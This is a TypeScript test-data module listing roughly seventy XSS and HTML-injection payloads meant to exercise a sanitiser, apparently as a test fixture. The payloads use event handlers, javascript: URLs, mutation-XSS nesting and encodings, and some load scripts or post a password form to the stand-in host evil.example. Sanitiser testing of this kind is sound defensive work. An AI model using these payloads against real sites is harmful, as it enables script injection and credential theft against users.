/**
 * Ways in which markup has been made to run script in browsers and past sanitisers: tags, attributes, addresses, styles, broken
 * nesting, encodings, namespaces, and shapes that change when they are parsed a second time.
 */
export const injections: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&lpar;1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>'.replace('\u0001', '&#1;'),
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<a href="https://a.example/\u0022 onmouseover=alert(1) x=">x</a>',
  '<p onclick=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<span style="color:expression(alert(1))">x</span>',
  '<span style="width:1px;behavior:url(#x)">x</span>',
  '<span style="color:red;background-image:url(https://evil.example/track)">x</span>',
  '<span style="font-family:x\';}</style><script>alert(1)</script>">x</span>',
  '<span style="position:fixed;inset:0;z-index:9999">covers the page</span>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><input type=password><button>Log in</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xss id=x tabindex=1 onfocus=alert(1)>x</xss>',
  '<template><script>alert(1)</script></template>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<li><table><td><ul><p><a href="https://a.example"><p onclick=alert(1)></a></p>',
  '<p id="__proto__" class="token" name="getElementById">clobber</p>',
];

/** All of them in as few texts of at most `limit` characters as it takes, without line breaks. */
export function packedInjections(limit: number): string[] {
  const texts = [''];
  for (const injection of injections.map((one) => one.replace(/\s+/g, ' ').trim())) {
    const longer = `${texts.at(-1)} ${injection}`.trim();
    if (longer.length <= limit) texts[texts.length - 1] = longer;
    else texts.push(injection.slice(0, limit).trim());
  }
  return texts;
}
